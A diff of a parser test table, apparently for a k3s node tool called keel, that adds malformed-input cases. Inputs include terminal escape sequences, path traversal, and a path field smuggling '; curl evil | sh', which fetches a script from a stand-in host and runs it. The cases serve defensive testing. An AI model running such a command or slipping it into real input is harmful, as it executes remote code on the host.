@@ -44,6 +44,12 @@ test.each([
   { name: 'a carriage return in one', section: 'generation', text: 'owned\t/etc/x\r\u001b[K innocent line\n' },
   { name: 'a path of the manifest that is none', section: 'generation', text: 'owned\tetc/x\n' },
   { name: 'one with .. in it', section: 'generation', text: 'owned\t/etc/../root\n' },
+  {
+    name: 'a unit beside keel whose name clears the screen',
+    section: 'foreign',
+    text: 'unit\tx\u001b[2J.service\tactive\tenabled\t/x\tk3s server\t\t\n',
+  },
+  { name: 'a file beside keel whose path is a command', section: 'foreign', text: 'config\t; curl evil | sh\ttext\t\n' },
   { name: 'an endless path', section: 'generation', text: `owned\t/${'x'.repeat(100_000)}\n` },
   { name: 'a label without a name', section: 'node-marks', text: node({ metadata: { labels: { '': 'x' } } }) },
   {
